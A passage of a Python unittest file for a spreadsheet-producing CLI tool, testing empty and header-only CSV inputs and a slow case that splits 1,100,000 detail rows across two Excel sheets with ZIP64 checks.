        self.assertNoWorkbook(out, result)

    def test_zero_bytes(self):
        self.check_empty("39a-zero-byte.csv")

    def test_byte_order_mark_only(self):
        self.check_empty("39b-bom-only.csv")

    def test_header_only(self):
        file = "39c-header-only.csv"
        _, result, out = run_case("39c", file)
        self.assertStatus(result, OK)
        self.assertInStderr("%s: has a header but no data rows [warning]"
                            % file, result)
        self.assertPackage(out)
        self.assertEqual(support.sheet_names(out),
                         ["Summary", "Charts", "Detail", "Assumptions",
                          "Problems", "Run"])
        self.assertEqual(support.summary_items(out), [])
        detail = support.load(out)["Detail"]
        self.assertEqual(detail.cell(1, 1).value, "Item")
        self.assertEqual(support.detail(out), [])


@unittest.skipUnless(os.environ.get("RESHORE_SLOW") == "1",
                     "slow: runs as the ctest test cli_cases_slow")
class RowLimit(CaseTest):
    """Case 35: 1,100 items at 1,000 locations are 1,100,000 Detail rows,
    more than fit on one sheet (1,048,575 below the header). Every row
    must be on a Detail sheet and the summary must state the count."""

    ITEMS = 1100
    LOCATIONS = 1000
    # Temporary space of 1,100,000 Detail rows and the workbook.
    NEEDED_BYTES = 4200 * 1000 * 1000

    @classmethod
    def setUpClass(cls):
        tmp = os.environ.get("TMPDIR") or "/tmp"
        for folder in (tmp, support.SCRATCH):
            os.makedirs(folder, exist_ok=True)
            free = shutil.disk_usage(folder).free
            if free < cls.NEEDED_BYTES:
                raise unittest.SkipTest(
                    "%s has %d MB free, the test needs %d MB"
                    % (folder, free // 1000000, cls.NEEDED_BYTES // 1000000))
        cls.folder = case_folder("35", ["35-row-limit-bom.csv",
                                        "35-row-limit-locations.csv"])
        support.copy(os.path.join(support.CLI_DATA, "cases-35.ini"),
                     cls.folder, "reshore.ini")
        cls.result = support.run(
            ["run", "--bom", "35-row-limit-bom.csv", "--locations",
             "35-row-limit-locations.csv", "--config", "reshore.ini",
             "-o", "out.xlsx"], cwd=cls.folder)
        cls.out = os.path.join(cls.folder, "out.xlsx")

    def test_status(self):
        self.assertStatus(self.result, OK)

    def test_summary_states_rows(self):
        self.assertInStdout("1100 purchased items at 1000 locations",
                            self.result)
        self.assertInStdout("  compared   1100000 item-location rows",
                            self.result)
        # Key figures: label, value pairs on the rows above the item
        # table, read without loading the 20 MB sheet.
        rows = {}
        for row, letter, value in support.stream_cells(
                self.out, "Summary", [chr(c) for c in range(65, 73)]):
            if letter == "A" and value == "Rank":
                break
            if value is not None:
                rows.setdefault(row, []).append((letter, value))
        figures = {}
        for cells in rows.values():
            values = [v for _, v in sorted(cells)]
            figures.update(zip(values[0::2], values[1::2]))
        self.assertEqual(figures["Detail rows"], "1100000")

    def test_every_row_on_a_detail_sheet(self):
        names = support.sheet_names_streamed(self.out)
        self.assertEqual([n for n in names if n.startswith("Detail")],
                         ["Detail", "Detail 2"])
        pairs = set()
        items = collections.Counter()
        locations = collections.Counter()
        for name in ("Detail", "Detail 2"):
            pending = {}
            for row, letter, value in support.stream_cells(self.out, name,
                                                           ["A", "C"]):
                if row == 1:
                    continue
                if letter == "A":
                    pending[row] = value
                    continue
                item = pending.pop(row)
                items[item] += 1
                locations[value] += 1
                pairs.add(int(item[2:]) * self.LOCATIONS + int(value[1:]))
            self.assertEqual(pending, {}, name)
        self.assertEqual(len(pairs), self.ITEMS * self.LOCATIONS)
        self.assertEqual(sum(items.values()), self.ITEMS * self.LOCATIONS)
        self.assertEqual(set(items.values()), {self.LOCATIONS})
        self.assertEqual(set(locations.values()), {self.ITEMS})

    def test_package_and_zip64(self):
        rows = self.assertPackage(self.out)
        self.assertLessEqual(rows["Detail"], 1048576)
        self.assertEqual(rows["Detail"] + rows["Detail 2"],
                         self.ITEMS * self.LOCATIONS + 2)
        for name, version, extra in support.zip_local_headers(self.out):
            self.assertGreaterEqual(version, 45, name)


if __name__ == "__main__":
    if os.environ.get("RESHORE_SLOW") == "1":
        os.makedirs(support.SCRATCH, exist_ok=True)
        unittest.main(defaultTest=["RowLimit"], verbosity=2)
    support.main()
